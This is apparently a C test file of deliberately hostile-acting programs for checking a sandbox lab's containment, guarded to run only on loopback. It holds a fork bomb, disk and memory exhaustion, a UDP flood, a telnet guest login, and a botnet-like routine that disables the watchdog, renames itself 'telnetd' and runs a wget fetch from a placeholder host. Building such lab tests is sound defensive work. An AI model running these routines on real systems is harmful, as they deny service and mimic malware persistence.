/*
 * Benign programs that each lean on one wall of the lab: built with -DACT=..., run only behind it. They refuse to run
 * (77) wherever they see an interface besides "lo".
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/watchdog.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/reboot.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#define SLEEPER 1
#define FORK_BOMB 2
#define FULL_DISK 3
#define ENDLESS_LOG 4
#define MEMORY_HOG 5
#define FLOOD 6
#define RESIDENT 7
#define MANY_FILES 8
#define TELNET 9

static int only_loopback(void) {
  char line[512];
  int all = 0, lo = 0;
  FILE *file = fopen("/proc/net/dev", "r");
  if (!file) return 0;
  while (fgets(line, sizeof line, file)) {
    all += strchr(line, ':') != NULL;
    lo += strstr(line, " lo:") != NULL;
  }
  fclose(file);
  return all == 1 && lo == 1;
}

static struct sockaddr_in at(const char *ip, int port) {
  struct sockaddr_in to;
  memset(&to, 0, sizeof to);
  to.sin_family = AF_INET;
  to.sin_port = htons((unsigned short)port);
  inet_aton(ip, &to.sin_addr);
  return to;
}

static void fill(const char *name) {
  static char block[1 << 16];
  int file = open(name, O_WRONLY | O_CREAT, 0600);
  signal(SIGXFSZ, SIG_IGN);
  while (file >= 0 && write(file, block, sizeof block) > 0) {
  }
}

/* What lives on a device: deletes itself, renames its process, fights the watchdog and its neighbours, stays. */
static void reside(void) {
  int child, dog;
  unlink("/tmp/a");
  prctl(PR_SET_NAME, "telnetd");
  dog = open("/dev/watchdog", O_RDWR);
  if (dog >= 0) {
    int option = WDIOS_DISABLECARD;
    ioctl(dog, WDIOC_SETOPTIONS, &option);
  }
  child = fork();
  if (child > 0) exit(0);
  setsid();
  child = fork();
  if (child == 0) {
    pause();
    exit(0);
  }
  usleep(100000);
  kill(child, SIGKILL);
  open("/proc", O_RDONLY | O_DIRECTORY);
  open("/proc/2/maps", O_RDONLY);
  mount("none", "/tmp", "tmpfs", 0, "");
  reboot(RB_DISABLE_CAD);
  execl("/bin/sh", "sh", "-c", "wget http://203.0.113.9/x", (char *)0);
  fill("/tmp/dropped");
  truncate("/tmp/dropped", 5);
  exit(0);
}

static void login(void) {
  struct sockaddr_in to = at("198.18.0.9", 23);
  char said[64];
  int k;
  int peer = socket(AF_INET, SOCK_STREAM, 0);
  connect(peer, (struct sockaddr *)&to, sizeof to);
  for (k = 0; k < 2; k++) {
    read(peer, said, sizeof said);
    write(peer, k ? "benign\r\n" : "guest\r\n", k ? 8 : 7);
  }
  read(peer, said, sizeof said);
  close(peer);
}

int main(void) {
  if (!only_loopback()) return 77;
  if (ACT == SLEEPER) {
    sleep(1000);
  } else if (ACT == FORK_BOMB) {
    for (;;) fork();
  } else if (ACT == FULL_DISK) {
    fill("/tmp/1");
    fill("/tmp/2");
    fill("/tmp/3");
  } else if (ACT == ENDLESS_LOG) {
    for (;;) puts("nothing to see here, nothing to see here, nothing to see here");
  } else if (ACT == MEMORY_HOG) {
    int k;
    for (k = 0; k < 14; k++) {
      if (fork() == 0) {
        volatile char *all = malloc(60 << 20);
        long at;
        for (at = 0; all && at < 60 << 20; at += 4096) all[at] = 1;
        sleep(1000);
      }
    }
    sleep(1000);
  } else if (ACT == FLOOD) {
    struct sockaddr_in to = at("198.18.7.7", 80);
    int peer = socket(AF_INET, SOCK_DGRAM, 0);
    for (;;) sendto(peer, "benign", 6, 0, (struct sockaddr *)&to, sizeof to);
  } else if (ACT == RESIDENT) {
    reside();
  } else if (ACT == MANY_FILES) {
    char name[32];
    int k;
    for (k = 0; k < 20000; k++) {
      snprintf(name, sizeof name, "/tmp/f%d", k);
      if (open(name, O_WRONLY | O_CREAT, 0600) >= 0) close(3);
      else if (errno == ENOSPC) return 5;
    }
  } else if (ACT == TELNET) {
    login();
  }
  return 0;
}
